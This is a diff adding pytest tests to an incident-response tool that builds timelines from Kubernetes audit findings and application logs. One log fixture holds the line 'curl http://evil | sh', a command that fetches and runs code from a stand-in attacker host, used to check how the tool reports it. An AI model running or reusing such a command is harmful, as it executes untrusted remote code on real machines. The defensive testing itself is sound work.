@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterable, Iterator
 from dataclasses import replace
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
@@ -12,9 +13,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from irkit.model.run import Moment, Status, Target
+from irkit.model.run import ClusterIdentity, Moment, Status, Target
+from irkit.report.moments import logs
 from irkit.report.moments.audit import _read_uri
 from irkit.report.moments.gravity import Request, severity
+from irkit.report.render import render
 from irkit.report.timeline import moments
 from tests.corpus import ROOT, absent
 from tests.report import records
@@ -363,3 +366,56 @@ def test_an_answer_too_large_is_not_read(tmp_path: Path, monkeypatch: pytest.Mon
     monkeypatch.setattr("irkit.report.moments.source.LARGEST", 10)
     put(tmp_path, "pod/pod.json", pod())
     assert "could not be read" in moments(tmp_path, TARGET, ())[0].what
+
+
+def test_findings_stand_where_their_first_event_does(tmp_path: Path) -> None:
+    told = {
+        "rule": "exec-into-pod",
+        "severity": "medium",
+        "technique": "T1609",
+        "actor": "mallory",
+        "reason": "exec: id",
+    }
+    lines = [told | {"at": "2026-11-23T03:00:05Z"}, told | {"at": "9999-12-31T23:59:59Z"}, {"rule": 7}]
+    put(tmp_path, "audit/findings.jsonl", "\n".join(json.dumps(line) for line in lines).encode())
+    first, *rest = moments(tmp_path, TARGET, ())
+    assert (first.source, first.actor, first.severity) == ("finding", "mallory", "medium")
+    assert first.what == "exec-into-pod [T1609]: exec: id"
+    assert ["bear no time" in moment.what for moment in rest] == [True, False]
+    assert "could not be read" in rest[1].what
+
+
+def test_a_thousand_lines_of_a_log_that_differ_in_numbers_are_two_moments(tmp_path: Path) -> None:
+    lines = [f"2026-11-23T03:00:{n % 60:02d}.{n:09d}Z GET /health {n} in 0x{n:x} ms" for n in range(1000)]
+    lines += ["2026-11-23T03:01:00Z \x1b[31mcurl http://evil | sh", "no time at all", ""]
+    put(tmp_path, "logs/app.current.log", "\n".join(lines).encode())
+    found = moments(tmp_path, TARGET, ())
+    assert [moment.what for moment in found if moment.source == "log"] == [
+        "GET /health 0 in 0x0 ms (first of 1,000 like it)",
+        "GET /health 999 in 0x3e7 ms (last of 1,000 like it)",
+        "\x1b[31mcurl http://evil | sh",
+    ]
+    assert found[0].actor == "app.current"
+    assert "1 entry of logs/app.current.log, which bear no time" in found[-1].what
+
+
+def test_of_an_endless_log_the_end_is_told_and_so_is_the_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(logs, "TAIL", 4096)
+    monkeypatch.setattr(logs, "KINDS", 5)
+    words = ("alpha", "beta", "gamma", "delta", "eta", "theta", "iota")
+    lines = [f"2026-11-23T03:00:00Z {words[n % 7]} said" for n in range(1000)]
+    put(tmp_path, "logs/app.current.log", "\n".join(lines).encode())
+    found = moments(tmp_path, TARGET, ())
+    assert len([moment for moment in found if moment.source == "log"]) == 10
+    assert any("are past the first 5 kinds" in moment.what for moment in found)
+    assert any("stands before its last" in moment.what for moment in found)
+
+
+@pytest.mark.parametrize(("skew", "shift"), [(None, 0.0), (0.4, 0.0), (-90.0, -90.0), (3600.0, 3600.0)])
+def test_our_own_steps_stand_by_the_servers_clock(tmp_path: Path, skew: float | None, shift: float) -> None:
+    steps = records.steps()
+    ours = [moment.at for moment in moments(tmp_path, None, steps, skew)]
+    assert ours == [moment.at + timedelta(seconds=shift) for moment in moments(tmp_path, None, steps)]
+    cluster = ClusterIdentity("https://x", "v1.37.2", "c", skew)
+    shown = render(replace(records.incident(), cluster=cluster), "md")
+    assert ("stand moved by it" in shown) is bool(shift)
